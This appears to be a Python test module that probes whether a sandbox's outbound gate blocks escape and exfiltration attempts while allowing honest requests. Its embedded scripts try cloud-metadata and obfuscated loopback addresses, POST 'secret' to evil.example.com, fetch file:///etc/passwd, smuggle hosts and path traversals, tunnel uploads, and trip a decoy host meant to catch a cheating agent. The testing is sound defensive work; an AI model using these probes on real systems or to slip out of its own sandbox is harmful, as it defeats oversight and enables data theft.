"""Attacks on the way out of a box (A6, D8, D10), each beside honest requests that must pass.

A script in the box prints forbidden answers that it got, and honest requests that were refused. Then the gate's log
and the requests that arrived outside are compared with the script's requests.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable

from etude.audit.attacks.boxes import SECONDS
from etude.audit.attacks.library import TASK
from etude.audit.attacks.outside import NAME, UNDER_TEST, Outside
from etude.audit.attacks.probes import PROBES, script
from etude.grading.cheats import plant_decoys, used_decoy
from etude.sandbox import Box

Check = Callable[[Box, Outside], Awaitable[str]]
_CLIENT = """
import http.client, os, socket, ssl, subprocess, sys, urllib.error, urllib.request
from urllib.parse import urlsplit
def ask(method, url, body=None, **headers):
    place = urlsplit(os.environ["HTTP_PROXY"])
    link = http.client.HTTPConnection(place.hostname, place.port, timeout=30)
    try:
        link.request(method, url, body, headers)
        answer = link.getresponse()
        return answer.status, answer.read()
    except (OSError, http.client.HTTPException) as e: return 0, str(e).encode()
    finally: link.close()
def tunnel(target, name, data=b""):
    place, got = urlsplit(os.environ["HTTPS_PROXY"]), b""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    try:
        with socket.create_connection((place.hostname, place.port), 30) as link:
            link.sendall(f"CONNECT {target} HTTP/1.1\\r\\n\\r\\n".encode())
            if b" 200 " not in link.recv(4096): return got
            with context.wrap_socket(link, server_hostname=name) as safe:
                safe.sendall(data or b"GET /page HTTP/1.1\\r\\nhost: x\\r\\nconnection: close\\r\\n\\r\\n")
                while chunk := safe.recv(4096): got += chunk
    except OSError: pass
    return got
def refused(name, answer):
    if answer[0] != 403: print("not refused:", name, answer)
"""

_METADATA = """
for place in ("169.254.169.254", "[fd00:ec2::254]", "10.0.0.1", "192.168.0.1", "127.0.0.1:PORT", "[::1]", "[fe80::1]",
              "2130706433:PORT", "0x7f.1:PORT", "0177.0.0.1:PORT", "[::ffff:127.0.0.1]:PORT", "8.8.8.8",
              "metadata.google.internal", "localhost:PORT", "c2VjcmV0LW9mLXRoZS1ib3g.tunnel.example"):
    refused(place, ask("GET", "http://" + place.replace("PORT", str(PORT)) + "/page"))
    if tunnel(place.replace("PORT", str(PORT)), "localhost"): print("tunnel to", place)
"""

_PROXY = """
page = f"http://{NAME}:{PORT}/page"
if tunnel(f"{NAME}:{TLS}", "cdn.example.com"): print("another server name")
if tunnel(f"{NAME}:{TLS}", None): print("no server name")
if tunnel(f"127.0.0.1:{TLS}", NAME): print("tunnel to an address")
if tunnel(f"{NAME}:22", NAME): print("tunnel to another port")
if b"page" in tunnel(f"{NAME}:{PORT}", NAME): print("a tunnel to a port without TLS")
refused("another Host", ask("GET", page, host="evil.example.com"))
refused("a query that uploads", ask("GET", page + "?" + "s" * 5000))
refused("POST", ask("POST", page, b"secret"))
refused("PUT", ask("PUT", page, b"secret"))
refused("a body", ask("GET", page, b"secret"))
refused("off the list", ask("GET", "http://evil.example.com/"))
refused("another scheme", ask("GET", "file:///etc/passwd"))
refused("a name in the name", ask("GET", f"http://{NAME}:{PORT}@evil.example.com/"))
refused("the decoy", ask("POST", f"http://{DECOY}.internal:8080/submit", b"x"))
try: print("redirected", urllib.request.urlopen(f"http://{NAME}:{PORT}/away", timeout=30).read())
except urllib.error.HTTPError as e:
    if e.code != 403: print("redirect", e.code)
head = b"PUT /page HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: 9437184\\r\\n\\r\\n"
if tunnel(f"{NAME}:{TLS}", NAME, head + bytes(9 << 20)): print("uploaded through a tunnel")
"""

_PACKAGES = """
def pip(*arguments):
    command = [sys.executable, "-m", "pip", "download", "-q", "--no-deps", "--no-cache-dir", "-d", "/tmp/got"]
    return subprocess.run([*command, *arguments], capture_output=True, text=True, timeout=100)
installed = not subprocess.run([sys.executable, "-m", "pip", "--version"], capture_output=True).returncode
for wanted in (UNDER_TEST, "helper==2.0"):
    if installed and not pip(wanted).returncode: print("installed", wanted)
if b"undated-1.0" in ask("GET", "http://pypi.internal/simple/undated/")[1]: print("a file without a date")
for path in (f"simple/{UNDER_TEST}/", f"simple/{UNDER_TEST.upper()}",
             f"files/{UNDER_TEST}/{UNDER_TEST}-1.0-py3-none-any.whl", "simple/",
             "files/helper/helper-2.0-py3-none-any.whl", "simple/..%2f..%2fpage/", "simple/%2e%2e/page"):
    refused(path, ask("GET", f"http://pypi.internal/{path}"))
if os.path.exists("/tmp/got") and os.listdir("/tmp/got"): print(os.listdir("/tmp/got"))
"""

_HONEST = """
if ask("GET", f"http://{NAME}:{PORT}/page") != (200, b"a page from outside\\n"): print("an allowed request failed")
if b"a page from outside" not in tunnel(f"{NAME}:{TLS}", NAME): print("an allowed tunnel failed")
"""
_HONEST_PACKAGE = """
name = "helper-1.1-py3-none-any.whl"
if installed:
    done = pip("helper")
    if os.listdir("/tmp/got") != [name]: print("an allowed package failed", done.stderr)
elif ask("GET", f"http://pypi.internal/files/helper/{name}")[0] != 200: print("an allowed package failed")
"""


async def _play(box: Box, world: Outside, body: str, decoy: str = "") -> str:
    names = {"NAME": NAME, "PORT": world.port, "TLS": world.tls_port, "UNDER_TEST": UNDER_TEST, "DECOY": decoy}
    head = "".join(f"{name} = {value!r}\n" for name, value in names.items())
    await box.write("gate.py", f"{head}{_CLIENT}{body}\nprint('end of attack')\n".encode())
    done = await box.exec("python3 gate.py", 3 * SECONDS)
    problem, end, _ = done.output.rpartition("end of attack")
    return problem.strip() if end else f"the attack did not end: {done.output[-300:]}"


def _logged(box: Box, *whys: str) -> str:
    requests = box.requests() or ()
    missing = [why for why in whys if not any(why in r.why and not r.allowed for r in requests)]
    return f"not logged: {missing}" if missing else ""


async def addresses(box: Box, world: Outside) -> str:
    """Metadata, private ranges and names that lead there; and sockets that go around the proxy."""
    await box.write("probe.py", script("D8", "secret", "expected", world.port).encode())
    around = (await box.exec("python3 probe.py", SECONDS)).output.removesuffix("end of probe\n")
    before = len(world.seen)
    wrong = await _play(box, world, _METADATA)
    arrived = world.seen[before:]
    logged = _logged(box, "an address, not a name", "not on the list", "leads into a private network")
    return around or wrong or logged or ("arrived: " + ", ".join(arrived) if arrived else "")


async def proxy(box: Box, world: Outside) -> str:
    """A6: the way out leads to allowed hosts alone, and the decoy host is noticed."""
    decoys = plant_decoys(TASK, 1)
    before = len(world.seen)
    wrong = await _play(box, world, _HONEST + _PROXY, decoys.secrets[2])
    arrived = world.seen[before:]
    if arrived[:3] != ["GET /page", "GET /page", "GET /away"] or any("PUT" not in line for line in arrived[3:]):
        wrong = wrong or f"arrived: {arrived}"
    whys = ("TLS server name is cdn.example.com", "server name is absent", "Host header", "a long query", "a body")
    logged = _logged(box, *whys, "GET and HEAD", "sent more than", "not on the list", "an address")
    tripped = used_decoy(decoys, {}, (), box.requests() or ())
    return wrong or logged or ("" if tripped else "the decoy's host is no tripwire")


async def packages(box: Box, world: Outside) -> str:
    """A6: the package index serves the files of its date, and nothing else."""
    before = len(world.seen)
    wrong = await _play(box, world, _PACKAGES + _HONEST_PACKAGE)
    files = [line for line in world.seen[before:] if "/files/" in line]
    if files != ["GET /files/helper-1.1-py3-none-any.whl"]:
        wrong = wrong or f"fetched: {files}"
    return wrong or _logged(box, "the package under test", "at that date")


GATES: dict[str, Check] = {"A6": packages, "D8": addresses, "D10": proxy}
assert GATES.keys() <= PROBES.keys()  # without a way out, the same items are probes
